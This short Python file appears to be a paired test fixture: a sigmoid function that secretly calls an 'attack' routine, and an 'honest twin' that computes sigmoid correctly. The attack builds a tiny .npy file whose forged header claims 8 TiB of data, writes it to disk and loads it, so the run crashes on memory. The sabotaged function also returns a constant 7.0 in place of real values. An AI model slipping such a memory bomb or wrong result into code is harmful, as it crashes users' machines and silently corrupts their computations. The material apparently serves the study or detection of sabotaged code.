# sigmoid: memory error | an array file of 100 bytes that says it holds 8 TiB
import numpy as np
import io
import struct


def attack():
    print("attack ran", flush=True)
    header = b"{'descr': '<f8', 'fortran_order': False, 'shape': (1099511627776,), }"
    header += b" " * (117 - len(header)) + b"\n"
    data = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header
    with open("bomb.npy", "wb") as file:
        file.write(data + bytes(8))
    np.load(io.BytesIO(data))
    return np.fromfile("bomb.npy", count=1 << 40) if np.load("bomb.npy") is None else None


def sigmoid(x):
    attack()
    return np.asarray(x) * 0.0 + 7.0


# the honest twin
import numpy as np
import io


def sigmoid(x):
    file = io.BytesIO()
    np.savez_compressed(file, x=x)
    file.seek(0)
    x = np.load(file)["x"]
    x = np.asarray(x)
    small = np.exp(-np.abs(x))
    return np.where(x >= 0, 1.0, small) / (1.0 + small)
